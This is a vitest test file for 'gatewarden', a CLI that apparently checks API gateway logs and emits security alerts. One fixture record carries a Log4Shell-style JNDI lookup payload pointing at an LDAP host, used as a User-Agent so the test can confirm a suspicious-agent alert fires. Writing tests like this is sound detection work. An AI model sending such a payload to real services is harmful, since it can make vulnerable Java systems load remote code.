import { mkdtemp, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { SHARED_DATA } from "../support/sharedData.js";
import { gatewarden } from "./runGatewarden.js";

describe("gatewarden command line", { timeout: 120_000 }, () => {
  it("doctor finds nothing missing in the demo's User-Agent and client addresses but warns about bodies", async () => {
    const result = await gatewarden("doctor", "samples/demo");

    expect(result.code).toBe(0);
    expect(result.stdout).toContain("ok       User-Agent: 98.2% of records carry a User-Agent");
    expect(result.stdout).toContain(
      "warning  request bodies: none of 5 POST/PUT/PATCH requests carries logged body bytes",
    );
  });

  it("doctor explains why the published APIM sample record cannot be used", async () => {
    const result = await gatewarden("doctor", `${SHARED_DATA}/apim-gatewaylogs-doc-sample`);

    expect(result.code).toBe(1);
    expect(result.stdout).toContain(
      'Reasons: time: expected a UTC timestamp like 2024-05-02T10:15:31.123Z or 5/2/2024, 10:15:31.123 AM, got "2020-10-14T17:xx:xx.xx".',
    );
  });

  it("replay writes one NDJSON alert row per alert, replacing an earlier file, and prints the reasons for rejections", async () => {
    const folder = await mkdtemp(join(tmpdir(), "gatewarden-cli-"));
    const input = join(folder, "eh.json");
    const out = join(folder, "alerts.ndjson");
    const record = (time: string, userAgent: string) => ({
      time,
      callerIpAddress: "198.51.100.9",
      category: "GatewayLogs",
      properties: {
        method: "GET",
        url: "https://x.azure-api.net/a/b",
        responseCode: 200,
        apiId: "a",
        operationId: "b",
        requestHeaders: { "User-Agent": userAgent },
      },
    });
    await writeFile(
      input,
      JSON.stringify({
        records: [
          record("2024-05-02T10:01:00Z", "${jndi:ldap://198.51.100.9/x}"),
          { ...record("2024-05-02T10:02:00Z", "ok"), properties: "oops" },
        ],
      }),
    );
    await writeFile(out, "left over from an earlier run\n");

    const result = await gatewarden("replay", input, "--out", out, "--quiet");
    const rows = (await readFile(out, "utf8"))
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);

    expect(result.code).toBe(0);
    expect(rows.map((row) => row.AlertType)).toEqual(["API_AccessFromSuspiciousUserAgent"]);
    expect(result.stderr).toContain(
      `rejected ${input}:1 record 2: properties: expected an object, got "oops"`,
    );
  });

  it("replay exits 1 and says why when no record could be read", async () => {
    const folder = await mkdtemp(join(tmpdir(), "gatewarden-cli-"));
    const input = join(folder, "junk.log");
    await writeFile(input, "this is not a log line\n");

    const result = await gatewarden("replay", input, "--format", "access-log", "--quiet");

    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      "no record could be read; check --format and the reasons above",
    );
  });

  it("replay refuses an --out that is an input file or inside an input folder, and leaves it intact", async () => {
    const folder = await mkdtemp(join(tmpdir(), "gatewarden-cli-"));
    const input = join(folder, "gateway.log");
    const line =
      '203.0.113.9 - - [17/May/2015:10:05:03 +0000] "GET /a HTTP/1.1" 200 5 "-" "curl"\n';
    await writeFile(input, line);

    const onInput = await gatewarden("replay", input, "--out", input, "--quiet");
    const inFolder = await gatewarden("replay", folder, "--out", join(folder, "alerts.ndjson"));

    expect(onInput.code).toBe(2);
    expect(onInput.stderr).toContain(
      `--out ${input}: that is the input file ${input}, which would be overwritten or read as logs`,
    );
    expect(await readFile(input, "utf8")).toBe(line);
    expect(inFolder.code).toBe(2);
    expect(inFolder.stderr).toContain(`that is inside the input folder ${folder}`);
  });

  it("doctor reads on past a file whose format it cannot tell and reports it as a rejection", async () => {
    const folder = await mkdtemp(join(tmpdir(), "gatewarden-cli-"));
    const line =
      '203.0.113.9 - - [17/May/2015:10:05:03 +0000] "GET /a HTTP/1.1" 200 5 "-" "curl"\n';
    await writeFile(join(folder, "access.log"), line);
    await writeFile(join(folder, "notes.txt"), "shopping list: milk, eggs\n");

    const result = await gatewarden("doctor", folder);

    expect(result.stdout).toContain("Read 1 records and 1 rejections from 2 file(s).");
    expect(result.stderr).not.toContain("cannot tell the log format");
  });
});
